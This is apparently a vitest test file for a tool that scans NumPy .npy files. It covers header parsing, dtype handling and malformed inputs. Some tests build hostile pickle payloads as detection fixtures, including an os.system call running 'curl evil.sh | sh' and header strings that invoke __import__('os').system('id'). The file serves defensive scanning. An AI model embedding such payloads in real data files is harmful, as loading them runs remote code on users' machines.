import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { MAX_HEADER_BYTES, NUMPY_DEFAULT_MAX_HEADER_CHARS, npyFormat, readNpy } from '../../src/formats/numpy.ts';
import { LiteralError, MAX_LITERAL_DEPTH, parsePythonLiteral, readDescr } from '../../src/formats/npy-header.ts';
import { createNodeSha256 } from '../../src/hash/node-sha256.ts';
import { createMemorySource } from '../../src/io/memory-source.ts';
import { createNodeFileSource } from '../../src/io/node-source.ts';
import type { FileReport } from '../../src/report/types.ts';
import { scanSource } from '../../src/scan.ts';
import { buildNpy, npyHeaderText } from '../builders/npy.ts';
import { binunicode, call, global, pickle, proto, stop } from '../builders/pickle.ts';

const FIXTURES = join(import.meta.dirname, '..', 'fixtures', 'numpy');

async function scanFixture(file: string): Promise<FileReport> {
  return scanSource(await createNodeFileSource(join(FIXTURES, file), file), { createSha256: createNodeSha256 });
}

async function scanBytes(bytes: Uint8Array, name = 'array.npy'): Promise<FileReport> {
  return scanSource(createMemorySource(bytes, name), { createSha256: createNodeSha256 });
}

const rules = (report: { findings: { rule: string }[] }) => report.findings.map((finding) => finding.rule);

describe('npy fixtures written by NumPy 1.24 (make_fixtures.py)', () => {
  // Expectations checked once with numpy: dtype.str, shape, fortran order, data offset = header end, file size.
  const table = [
    { file: 'float32.npy', dtype: '<f4', shape: [3, 4], offset: 128, length: 48 },
    { file: 'int64.npy', dtype: '<i8', shape: [10], offset: 128, length: 80 },
    { file: 'scalar.npy', dtype: '<i2', shape: [], offset: 128, length: 2 },
    { file: 'empty.npy', dtype: '<f8', shape: [0, 5], offset: 128, length: 0 },
    { file: 'fortran.npy', dtype: '<f8', shape: [2, 3], offset: 128, length: 48, fortranOrder: true },
    { file: 'big_endian.npy', dtype: '>f8', shape: [4], offset: 128, length: 32, byteOrder: 'big' },
    { file: 'bool.npy', dtype: '|b1', shape: [3], offset: 128, length: 3 },
    { file: 'complex.npy', dtype: '<c8', shape: [2], offset: 128, length: 16 },
    { file: 'unicode.npy', dtype: '<U3', shape: [2], offset: 128, length: 24 },
    { file: 'structured.npy', dtype: '|V12', shape: [2], offset: 192, length: 24 },
    { file: 'version2.npy', dtype: '|u1', shape: [3], offset: 128, length: 3, version: '2.0' },
  ];

  it.each(table)('$file: one tensor with the dtype and shape NumPy reports, clean', async (row) => {
    const report = await scanFixture(row.file);
    expect(report.format).toBe('npy');
    expect(report.verdict).toBe('clean');
    expect(report.findings).toEqual([]);
    expect(report.tensors).toEqual([{ name: row.file, dtype: row.dtype, shape: row.shape, offset: row.offset, length: row.length }]);
    expect(report.metadata.version).toBe(row.version ?? '1.0');
    expect(report.metadata.fortranOrder).toBe(row.fortranOrder ?? false);
    expect(report.metadata.byteOrder).toBe(row.byteOrder);
    expect(report.weightsOnly).toBeUndefined();
    expect(report.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('summarises the fields of a structured dtype with their offsets', async () => {
    const report = await scanFixture('structured.npy');
    // np.dtype([('x', '<f4'), ('y', '<i2', (2,)), ('name', 'S4')]): offsets 0, 4, 8; itemsize 12.
    expect(report.metadata.fields).toEqual([
      { name: 'x', dtype: '<f4', shape: [], offset: 0 },
      { name: 'y', dtype: '<i2', shape: [2], offset: 4 },
      { name: 'name', dtype: '|S4', shape: [], offset: 8 },
    ]);
    expect(report.metadata.itemSize).toBe(12);
  });

  it('object.npy: the data is a pickle of numpy globals, scanned and reported as info only', async () => {
    const report = await scanFixture('object.npy');
    expect(report.verdict).toBe('clean');
    expect(rules(report)).toContain('numpy.object-array');
    for (const finding of report.findings) expect(finding.severity).toBe('info');
    // The data pickle starts at the end of the header (128) and runs to the end of the 308-byte file.
    expect(report.tensors).toEqual([{ name: 'object.npy', dtype: '|O', shape: [3], offset: 128, length: 180 }]);
    expect(report.weightsOnly).toBeDefined();
    expect(JSON.stringify(report.metadata.pickle)).toContain('numpy.core.multiarray._reconstruct');
  });
});

describe('object arrays run their pickle on np.load(allow_pickle=True)', () => {
  it('an object .npy whose pickle calls os.system is dangerous, with the command as evidence at its offset', async () => {
    const payload = pickle(proto(2), call(global('os', 'system'), binunicode('curl evil.sh | sh')), stop());
    const bytes = buildNpy({ descr: '|O', shape: [1], data: payload });
    const report = await scanBytes(bytes, 'labels.npy');
    expect(report.verdict).toBe('dangerous');
    const call_ = report.findings.find((finding) => finding.rule === 'pickle.call.dangerous');
    expect(call_?.evidence).toContain('curl evil.sh | sh');
    // The GLOBAL opcode is the third byte of the pickle, which starts after the 128-byte header.
    const imported = report.findings.find((finding) => finding.rule === 'pickle.import.process');
    expect(imported?.location.offset).toBe(128 + 2);
    expect(report.weightsOnly?.accepted).toBe(false);
  });

  it('an object field inside a structured dtype also makes the data a pickle', async () => {
    const payload = pickle(proto(2), call(global('os', 'system'), binunicode('id')), stop());
    const bytes = buildNpy({ header: "{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }", data: payload });
    const report = await scanBytes(bytes);
    expect(report.verdict).toBe('dangerous');
    expect(report.metadata.holdsObjects).toBe(true);
  });
});

describe('malformed .npy headers', () => {
  const data12 = new Uint8Array(12);
  const cases: { name: string; bytes: Uint8Array; rule: string; detail?: RegExp }[] = [
    { name: 'unknown version', bytes: buildNpy({ version: [4, 0] }), rule: 'numpy.version.unsupported', detail: /version 4\.0 at offset 6/ },
    { name: 'header length past the end', bytes: buildNpy({ declaredHeaderLength: 60_000 }), rule: 'numpy.header.truncated', detail: /60000 bytes at offset 10/ },
    {
      name: 'header length over the parse limit',
      bytes: buildNpy({ version: [2, 0], declaredHeaderLength: 0xffffffff }),
      rule: 'numpy.header.too-large',
      detail: new RegExp(`4294967295 exceeds ${MAX_HEADER_BYTES} at offset 8`),
    },
    { name: 'not a literal (a call)', bytes: buildNpy({ header: "__import__('os').system('id')" }), rule: 'numpy.header.invalid', detail: /not a literal/ },
    { name: 'not a dict', bytes: buildNpy({ header: "['descr', 'shape']" }), rule: 'numpy.header.invalid', detail: /not a dict/ },
    { name: 'missing key', bytes: buildNpy({ header: "{'descr': '<f4', 'shape': (3,)}", data: data12 }), rule: 'numpy.header.invalid', detail: /missing fortran_order/ },
    {
      name: 'extra key',
      bytes: buildNpy({ header: "{'descr': '<f4', 'fortran_order': False, 'shape': (3,), 'x': 1}", data: data12 }),
      rule: 'numpy.header.invalid',
      detail: /unexpected key "x"/,
    },
    { name: 'fortran_order not a bool', bytes: buildNpy({ header: "{'descr': '<f4', 'fortran_order': 0, 'shape': (3,)}", data: data12 }), rule: 'numpy.header.invalid' },
    { name: 'unknown dtype', bytes: buildNpy({ descr: '<z9', shape: [3] }), rule: 'numpy.dtype.unknown' },
    { name: 'negative dimension', bytes: buildNpy({ header: "{'descr': '<f4', 'fortran_order': False, 'shape': (-1,)}" }), rule: 'numpy.shape.invalid', detail: /negative/ },
    { name: 'shape not a tuple', bytes: buildNpy({ header: "{'descr': '<f4', 'fortran_order': False, 'shape': [3]}" }), rule: 'numpy.shape.invalid' },
    {
      name: 'size overflow',
      bytes: buildNpy({ header: "{'descr': '<f8', 'fortran_order': False, 'shape': (4294967296, 4294967296)}" }),
      rule: 'numpy.shape.invalid',
      detail: /more than any array can hold/,
    },
    { name: 'data shorter than the shape', bytes: buildNpy({ descr: '<f4', shape: [3, 4], data: new Uint8Array(40) }), rule: 'numpy.data.truncated', detail: /needs 48 bytes from offset 128 but only 40 remain/ },
    { name: 'bytes after the data', bytes: buildNpy({ descr: '<f4', shape: [2], data: new Uint8Array(8 + 5) }), rule: 'numpy.data.trailing', detail: /5 bytes follow/ },
    { name: 'version 3 header that is not UTF-8', bytes: headerWithByte(0xff), rule: 'numpy.header.invalid', detail: /not valid UTF-8/ },
  ];

  it.each(cases)('$name → $rule', async ({ bytes, rule, detail }) => {
    const report = await scanBytes(bytes);
    expect(report.format).toBe('npy');
    const finding = report.findings.find((candidate) => candidate.rule === rule);
    expect(finding, JSON.stringify(rules(report))).toBeDefined();
    if (detail) expect(finding?.detail).toMatch(detail);
  });

  it('a header over NumPy\'s default 10 000 characters needs trust but is still read', async () => {
    const header = `{'descr': [${Array.from({ length: 700 }, (_, index) => `('f${index}', '<u1')`).join(', ')}], 'fortran_order': False, 'shape': (1,), }`;
    expect(header.length).toBeGreaterThan(NUMPY_DEFAULT_MAX_HEADER_CHARS);
    const report = await scanBytes(buildNpy({ version: [2, 0], header, data: new Uint8Array(700) }));
    expect(rules(report)).toEqual(['numpy.header.needs-trust']);
    expect(report.tensors[0]).toMatchObject({ dtype: '|V700', shape: [1], length: 700 });
    expect(report.metadata.fieldCount).toBe(700);
  });

  it('reads Python 2 headers with L suffixes (versions 1.0 and 2.0 only), as NumPy filters them', async () => {
    const header = "{'descr': '<i2', 'fortran_order': False, 'shape': (2L, 3L), }";
    const report = await scanBytes(buildNpy({ header, data: new Uint8Array(12) }));
    expect(report.findings).toEqual([]);
    expect(report.tensors[0].shape).toEqual([2, 3]);
    const v3 = await scanBytes(buildNpy({ header, version: [3, 0], data: new Uint8Array(12) }));
    expect(rules(v3)).toEqual(['numpy.header.invalid']);
  });

  it('decodes version 1.0 headers as latin-1 and version 3.0 as UTF-8 (field names)', async () => {
    const latin = await scanBytes(buildNpy({ header: "{'descr': [('\u00e9', '<u1')], 'fortran_order': False, 'shape': (1,), }", data: new Uint8Array(1) }));
    expect(latin.metadata.fields).toEqual([{ name: '\u00e9', dtype: '|u1', shape: [], offset: 0 }]);
    const utf8 = await scanBytes(buildNpy({ version: [3, 0], header: "{'descr': [('\u6f22', '<u1')], 'fortran_order': False, 'shape': (1,), }", data: new Uint8Array(1) }));
    expect(utf8.metadata.fields).toEqual([{ name: '\u6f22', dtype: '|u1', shape: [], offset: 0 }]);
  });

  it('a truncated magic or version is reported, not thrown', async () => {
    const reading = await readNpy(createMemorySource(Uint8Array.of(0x93, 0x4e, 0x55, 0x4d, 0x50, 0x59, 1), 'cut.npy'), { tensorName: 'cut' });
    expect(reading.findings.map((finding) => finding.rule)).toEqual(['numpy.header.truncated']);
    expect(reading.tensors).toEqual([]);
  });

  it('detects by magic only, whatever the name', () => {
    const bytes = buildNpy();
    expect(npyFormat.detect(bytes, 'weights.bin')).toBe(true);
    expect(npyFormat.detect(bytes.subarray(0, 5), 'a.npy')).toBe(false);
    expect(npyFormat.detect(new TextEncoder().encode('NUMPY'), 'a.npy')).toBe(false);
  });
});

function headerWithByte(byte: number): Uint8Array {
  const bytes = buildNpy({ version: [3, 0], header: npyHeaderText('<u1', [1]) + ' ', data: new Uint8Array(1) });
  // Replace the space padding just before the newline with an invalid UTF-8 byte.
  bytes[bytes.length - 3] = byte;
  return bytes;
}

describe('the header literal parser', () => {
  it('parses what NumPy writes', () => {
    expect(parsePythonLiteral("{'descr': '<f4', 'fortran_order': False, 'shape': (3, 4), }")).toEqual({
      kind: 'dict',
      entries: [
        [{ kind: 'str', value: 'descr' }, { kind: 'str', value: '<f4' }],
        [{ kind: 'str', value: 'fortran_order' }, { kind: 'bool', value: false }],
        [{ kind: 'str', value: 'shape' }, { kind: 'tuple', items: [{ kind: 'int', value: 3n }, { kind: 'int', value: 4n }] }],
      ],
    });
  });

  it.each([
    ['()', { kind: 'tuple', items: [] }],
    ['(7,)', { kind: 'tuple', items: [{ kind: 'int', value: 7n }] }],
    ['(7)', { kind: 'int', value: 7n }],
    ['-0x10', { kind: 'int', value: -16n }],
    ['1_000', { kind: 'int', value: 1000n }],
    ['123456789012345678901234567890', { kind: 'int', value: 123456789012345678901234567890n }],
    ['1.5e3', { kind: 'float', text: '1.5e3' }],
    ["'a' \"b\"", { kind: 'str', value: 'ab' }],
    ["'\\x41\\u00e9\\n'", { kind: 'str', value: 'A\u00e9\n' }],
    ["r'\\n'", { kind: 'str', value: '\\n' }],
    ["b'<f4'", { kind: 'bytes', value: '<f4' }],
    ['{1, 2}', { kind: 'set', items: [{ kind: 'int', value: 1n }, { kind: 'int', value: 2n }] }],
    ['None', { kind: 'none' }],
  ])('%s', (text, expected) => {
    expect(parsePythonLiteral(text)).toEqual(expected);
  });

  it.each([
    ["__import__('os')", /not a literal/],
    ["os.system('id')", /not a literal/],
    ['(1, 2', /unclosed|expected/],
    ["'abc", /unterminated/],
    ['1 + 2', /after the literal/],
    ['lambda: 0', /not a literal/],
    ['007', /leading zeros/],
    ["'a' b'b'", /mix bytes and str/],
    ['[*x]', /unexpected character/],
  ])('refuses %s', (text, message) => {
    expect(() => parsePythonLiteral(text)).toThrow(message);
  });

  it('bounds nesting depth instead of recursing without end (CWE-674)', () => {
    const deep = '('.repeat(MAX_LITERAL_DEPTH + 5) + ')'.repeat(MAX_LITERAL_DEPTH + 5);
    expect(() => parsePythonLiteral(deep)).toThrow(LiteralError);
    const deepest = '['.repeat(100_000);
    expect(() => parsePythonLiteral(deepest)).toThrow(/nesting deeper/);
  });

  it.each([
    ['<f4', '<f4', 4],
    ['>f8', '>f8', 8],
    ['=i2', '<i2', 2],
    ['|b1', '|b1', 1],
    ['>i1', '|i1', 1],
    ['?', '|b1', 1],
    ['float32', '<f4', 4],
    ['f', '<f4', 4],
    ['d', '<f8', 8],
    ['<U3', '<U3', 12],
    ['S4', '|S4', 4],
    ['|O', '|O', 8],
    ['O', '|O', 8],
    ['<M8[ns]', '<M8[ns]', 8],
    ['c', '|S1', 1],
  ])('dtype %s → %s (%i bytes)', (descr, str, itemSize) => {
    expect(readDescr({ kind: 'str', value: descr })).toMatchObject({ str, itemSize });
  });

  it.each(['<f3', 'u', '<i16', 'x4', '<f4[ns]', 'float128x'])('refuses dtype %s', (descr) => {
    expect(() => readDescr({ kind: 'str', value: descr })).toThrow();
  });

  it('drops nameless void padding fields but counts their bytes, as NumPy does', () => {
    const dtype = readDescr(parsePythonLiteral("[('a', '<f4'), ('', '|V4'), ('b', '<i8')]"));
    expect(dtype.fields).toEqual([
      { name: 'a', dtype: '<f4', shape: [], offset: 0 },
      { name: 'b', dtype: '<i8', shape: [], offset: 8 },
    ]);
    expect(dtype.itemSize).toBe(16);
  });
});
